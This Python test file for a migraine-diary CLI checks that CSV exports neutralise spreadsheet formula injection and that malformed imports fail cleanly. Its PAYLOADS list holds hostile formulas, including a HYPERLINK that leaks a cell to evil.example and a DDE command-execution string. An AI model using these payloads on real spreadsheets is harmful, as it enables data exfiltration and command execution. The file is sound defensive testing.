"""Hostile CSV: formula injection both ways, and files that are not what import expects.

Every CSV the tool writes must not be run as a formula by a spreadsheet, and import
must undo exactly the neutralising ``'``. Every bad file gets one sentence and
exit 1, never a traceback, and the diary is left as it was (bytes and rows).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from pathlib import Path

import pytest

from migrainecli import csvio
from migrainecli.models import Day, Gap, Intake, Trial
from migrainecli.storage import Diary
from migrainecli.treatments import resolve_therapy
from tests.test_reliability import content

TODAY = date.today()
D = [TODAY - timedelta(days=40 - k) for k in range(40)]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=1+1",
    "'=already quoted",
    "''+twice",
]


def _payload_diary(path: Path) -> Path:
    """A payload in every free-text cell: notes, doses, reasons, therapy names, gaps."""
    with Diary.open(path, write=True) as diary:
        diary.save_days(
            Day(D[k], "severe", note=p, impairment="serious") for k, p in enumerate(PAYLOADS)
        )
        diary.add_intakes(
            Intake(D[k], "sumatriptan", p, k % 2 == 0, "triptan") for k, p in enumerate(PAYLOADS)
        )
        for k, p in enumerate(PAYLOADS):
            diary.add_gap(Gap(D[20 + k], D[20 + k], p))
            # An unknown therapy recorded under a class keeps its name as the resolver
            # stores it (without surrounding white space), as 'trial add --class' would.
            name = resolve_therapy(p, class_id="beta_blocker").name
            diary.save_trial(
                Trial(name, "beta_blocker", "preventive", D[k], D[k + 10], p, "ineffective",
                      reason=p, note=p)
            )  # fmt: skip
        diary.set_setting("name", PAYLOADS[0])
    return path


def stdout(result) -> str:
    """What the command wrote, line ends included (``Result.stdout`` turns CRLF into LF)."""
    return result.stdout_bytes.decode("utf-8")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _assert_safe(text: str) -> None:
    for c in _cells(text):
        assert not c.startswith(DANGEROUS), f"a spreadsheet would run {c!r}"


@pytest.mark.parametrize("kind", ["days", "intakes", "gaps", "trials"])
def test_every_exported_cell_is_neutralised(run, tmp_path, kind):
    a = _payload_diary(tmp_path / "a.db")
    out = run("--db", str(a), "export", kind)
    assert out.exit_code == 0
    _assert_safe(stdout(out))
    cells = _cells(stdout(out))
    for p in PAYLOADS:
        if p.lstrip("'")[:1] in DANGEROUS or kind == "trials":
            assert "'" + p in cells or "'" + p.strip() in cells, p
    target = tmp_path / f"{kind}.csv"
    assert run("--db", str(a), "export", kind, "--output", str(target)).exit_code == 0
    with target.open(encoding="utf-8", newline="") as fh:
        assert fh.read() == stdout(out)


def test_payloads_round_trip_byte_identical_through_every_kind(run, tmp_path):
    a = _payload_diary(tmp_path / "a.db")
    b = tmp_path / "b.db"
    exported = {}
    for kind in ("days", "intakes", "gaps", "trials"):  # intakes need their days first
        exported[kind] = stdout(run("--db", str(a), "export", kind))
        f = tmp_path / f"{kind}.csv"
        f.write_text(exported[kind], encoding="utf-8", newline="")
        r = run("--db", str(b), "import", kind, str(f))
        assert r.exit_code == 0, r.output
    for kind, text in exported.items():
        assert stdout(run("--db", str(b), "export", kind)) == text, kind
    with Diary.open(a, write=False) as da, Diary.open(b, write=False) as db_:
        assert da.days() == db_.days()
        assert [(i.date, i.medication, i.dose, i.relieved) for i in da.intakes()] == [
            (i.date, i.medication, i.dose, i.relieved) for i in db_.intakes()
        ]
        assert [(g.start, g.end, g.reason) for g in da.gaps()] == [
            (g.start, g.end, g.reason) for g in db_.gaps()
        ]
        strip = [(t.therapy, t.class_id, t.dose, t.reason, t.note) for t in da.trials()]
        assert strip == [(t.therapy, t.class_id, t.dose, t.reason, t.note) for t in db_.trials()]
        assert {d.note for d in db_.days()} == set(PAYLOADS)


def test_payloads_typed_on_the_command_line_round_trip(run, tmp_path):
    for k, p in enumerate(PAYLOADS):
        assert run("log", D[k].isoformat(), "-s", "mild", f"--note={p}").exit_code == 0
        assert run("gap", "add", f"{D[20 + k]}..{D[20 + k]}", f"--reason={p}").exit_code == 0
    for kind in ("days", "gaps"):
        first = stdout(run("export", kind))
        _assert_safe(first)
        (tmp_path / "f.csv").write_text(first, encoding="utf-8", newline="")
        fresh = str(tmp_path / f"fresh-{kind}.db")
        assert run("--db", fresh, "import", kind, str(tmp_path / "f.csv")).exit_code == 0
        assert stdout(run("--db", fresh, "export", kind)) == first
    notes = [d["note"] for d in json.loads(run("days", "--json").stdout)]
    assert notes == PAYLOADS


def test_reports_written_as_csv_are_neutralised_too(run, tmp_path):
    """monthly.csv and the clinician summary carry the patient's words and name."""
    a = _payload_diary(tmp_path / "a.db")
    for args in (["export", "monthly"], ["summary", "--format", "csv"]):
        r = run("--db", str(a), *args)
        assert r.exit_code == 0, (args, r.output)
        _assert_safe(stdout(r))


# -- hostile files -------------------------------------------------------------------------
HEADER = "date,severity,hours,nausea,note"
GOOD = "".join(f"{D[k]},mild,2,1,fine\r\n" for k in range(3))


def _rows(n: int) -> str:
    return "".join(f"{TODAY - timedelta(days=100 + k)},moderate,,,row {k}\r\n" for k in range(n))


HOSTILE = {
    "binary noise": (bytes(range(256)) * 64, "not UTF-8"),
    "PNG image": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "not UTF-8"),
    "xlsx workbook": (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 200, "spreadsheet workbook"),
    "xls workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200, "Excel 97-2003"),
    "a diary given to import": (b"SQLite format 3\x00" + b"\x00" * 200, "an SQLite database"),
    "UTF-16 with BOM": ((HEADER + "\r\n" + GOOD).encode("utf-16"), "UTF-16 text"),
    "UTF-16 without BOM": ((HEADER + "\r\n" + GOOD).encode("utf-16-le"), "NUL characters"),
    "Latin-1 after 5000 good rows": (
        (HEADER + "\r\n" + _rows(5000)).encode() + f"{D[0]},mild,,,caf\xe9\r\n".encode("latin-1"),
        "not UTF-8 text; save it as 'CSV UTF-8'",
    ),
    "Windows-1252 quotes": (
        (HEADER + "\r\n").encode() + f"{D[0]},mild,,,\u201chi\u201d\r\n".encode("cp1252"),
        "not UTF-8",
    ),
    "NUL in a note": ((HEADER + "\r\n" + GOOD + f"{D[5]},mild,,,a\x00b\r\n").encode(), "NUL"),
    "5 MB note": (
        (HEADER + "\r\n" + GOOD + f'{D[5]},mild,,,"{"x" * 5_000_000}"\r\n').encode(),
        "Line 5: a cell is longer than 1,000,000 characters",
    ),
    "5 MB without a line break": (b"y" * 5_000_000, "Line 1: a cell is longer than"),
    "empty file": (b"", "The file is empty"),
    "only a byte-order mark": (b"\xef\xbb\xbf", "The file is empty"),
    "missing required column": (b"date,note\r\n2026-01-01,x\r\n", "Missing required column(s)"),
    "100,000 unknown columns": (
        (HEADER + "," + ",".join(f"c{k}" for k in range(100_000)) + "\r\n").encode(),
        "Unknown columns 'c0', 'c1', 'c2', 'c3', 'c4' and 99,995 more; the columns are date,",
    ),
    "100,000 copies of a column": (
        ("date,severity," + ",".join(["note"] * 100_000) + "\r\n").encode(),
        "Column 'note' appears twice in the header.",
    ),
    "a row of 100,000 cells": (
        (HEADER + "\r\n" + ",".join(["x"] * 100_000) + "\r\n").encode(),
        "Line 2: 100,000 cells where the header has 5.",
    ),
    "a quote never closed": (
        (HEADER + "\r\n" + f'{D[0]},mild,,,"oops\r\n' + GOOD).encode(),
        "Line 2: a quoted cell is never closed",
    ),
    "text after a closing quote": (
        (HEADER + "\r\n" + f'{D[0]},mild,,,"a"b\r\n').encode(),
        "Line 2: the file is not valid CSV",
    ),
    "duplicate dates": (
        (HEADER + "\r\n" + GOOD + f"{D[1]},severe,,,again\r\n").encode(),
        f"Line 5: {D[1]} appears twice (also on line 3).",
    ),
    "semicolons, bad value on line 3": (
        f"date;severity\r\n{D[0]};mild\r\n{D[1]};awful\r\n".encode(),
        "Line 3: severity must be one of none, mild, moderate, severe, not 'awful'.",
    ),
    "a value under an unnamed column": (
        f"date,severity,,\r\n{D[0]},mild,,\r\n{D[1]},mild,,oops\r\n".encode(),
        "Line 3: column 4 has a value but no name in the header",
    ),
    "a 100,000-character date": (
        (HEADER + "\r\n" + "9" * 100_000 + ",mild,,,\r\n").encode(),
        "Line 2: date '" + "9" * 40 + "…' is not a date written YYYY-MM-DD.",
    ),
}


@pytest.fixture
def seeded(tmp_path):
    path = tmp_path / "diary.db"
    with Diary.open(path, write=True) as diary:
        diary.save_days(Day(d, "severe", nausea=True, note="before") for d in D[:10])
    return path


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_file_gets_one_sentence_and_changes_nothing(run, tmp_path, seeded, case):
    data, message = HOSTILE[case]
    f = tmp_path / "hostile.csv"
    f.write_bytes(data)
    before, rows = seeded.read_bytes(), content(seeded)
    r = run("--db", str(seeded), "import", "days", str(f))
    assert r.exit_code == 1, r.output[:300]
    err = r.stderr.strip()  # (a progress bar on big files may leave an empty line)
    assert err.startswith("Error: ") and message in err, err[:500]
    assert "\n" not in err and len(err) < 400, err[:500]
    assert "Traceback" not in r.output
    assert seeded.read_bytes() == before and content(seeded) == rows


@pytest.mark.parametrize("case", ["binary noise", "xlsx workbook", "NUL in a note"])
def test_hostile_file_on_stdin_creates_no_diary(run, tmp_path, db_path, case):
    data, message = HOSTILE[case]
    from typer.testing import CliRunner

    from migrainecli.cli import app

    r = CliRunner().invoke(app, ["import", "days", "-"], input=data)
    assert r.exit_code == 1
    assert message in r.stderr
    assert not db_path.exists()


def test_header_alone_imports_nothing_and_changes_nothing(run, tmp_path, seeded):
    f = tmp_path / "h.csv"
    f.write_text(HEADER + "\r\n")
    rows = content(seeded)
    r = run("--db", str(seeded), "import", "days", str(f))
    assert r.exit_code == 0
    assert r.stdout == f"Imported days from {f}: 0 added.\n"
    assert content(seeded) == rows


def test_semicolon_file_from_a_european_spreadsheet_imports_like_the_comma_file(run, tmp_path):
    """UTF-8 BOM, ';' separators, a decimal comma, quoted cells holding ';' and ','."""
    rows = [
        ("date", "severity", "hours", "nausea", "impairment", "note"),
        (D[0].isoformat(), "severe", "4,5", "1", "serious", "Übelkeit; dann, später besser"),
        (D[1].isoformat(), "mild", "", "0", "", "=SUMME(1)"),
        (D[2].isoformat(), "none", "", "", "", 'zitat "ok"'),
    ]
    semi, comma = io.StringIO(), io.StringIO()
    csv.writer(semi, delimiter=";", lineterminator="\r\n").writerows(
        [r[:5] + (csvio.neutralise(r[5]),) for r in rows]
    )
    csv.writer(comma, lineterminator="\r\n").writerows(
        [r[:2] + (r[2].replace(",", "."),) + r[3:5] + (csvio.neutralise(r[5]),) for r in rows]
    )
    (tmp_path / "semi.csv").write_bytes(b"\xef\xbb\xbf" + semi.getvalue().encode())
    (tmp_path / "comma.csv").write_text(comma.getvalue(), newline="")
    for name in ("semi", "comma"):
        r = run(
            "--db", str(tmp_path / f"{name}.db"), "import", "days", str(tmp_path / f"{name}.csv")
        )
        assert r.exit_code == 0, r.output
    exported = [
        run("--db", str(tmp_path / f"{n}.db"), "export", "days").stdout for n in ("semi", "comma")
    ]
    assert exported[0] == exported[1]
    days = json.loads(run("--db", str(tmp_path / "semi.db"), "days", "--json").stdout)
    assert [(d["hours"], d["note"]) for d in days] == [
        (4.5, "Übelkeit; dann, später besser"), (None, "=SUMME(1)"), (None, 'zitat "ok"'),
    ]  # fmt: skip


def test_empty_unnamed_columns_and_old_mac_line_ends_are_accepted(run, tmp_path):
    f = tmp_path / "f.csv"
    f.write_bytes(f"date,severity,note,,\r{D[0]},mild,x,,\r{D[1]},severe,y,,\r".encode())
    r = run("import", "days", str(f))
    assert r.exit_code == 0, r.output
    assert [d["note"] for d in json.loads(run("days", "--json").stdout)] == ["x", "y"]


def test_duplicates_in_other_kinds_are_imported_once_or_kept_as_intakes(run, tmp_path):
    run("log", D[0].isoformat(), "-s", "severe")
    files = {
        "gaps": f"start,end,reason\r\n{D[5]},{D[6]},trip\r\n{D[5]},{D[6]},trip\r\n",
        "trials": "therapy,kind,start,end,outcome\r\n"
        + f"propranolol,,{D[0]},{D[30]},ineffective\r\n" * 2,
        "intakes": "date,medication,dose\r\n" + f"{D[0]},ibuprofen,400 mg\r\n" * 2,
    }
    expected = {
        "gaps": "1 added, 1 already there",
        "trials": "1 added, 1 already there",
        "intakes": "2 added",
    }
    for kind, text in files.items():
        (tmp_path / f"{kind}.csv").write_text(text, newline="")
        r = run("import", kind, str(tmp_path / f"{kind}.csv"))
        assert r.exit_code == 0, r.output
        assert r.stdout == f"Imported {kind} from {tmp_path / f'{kind}.csv'}: {expected[kind]}.\n"


def test_whitespace_only_notes_survive_a_round_trip(run, tmp_path):
    """A note of spaces typed on the command line is exported as spaces, and read back."""
    run("log", D[0].isoformat(), "-s", "mild", "--note", "   ")
    first = stdout(run("export", "days"))
    (tmp_path / "f.csv").write_text(first, newline="")
    fresh = str(tmp_path / "fresh.db")
    assert run("--db", fresh, "import", "days", str(tmp_path / "f.csv")).exit_code == 0
    assert stdout(run("--db", fresh, "export", "days")) == first
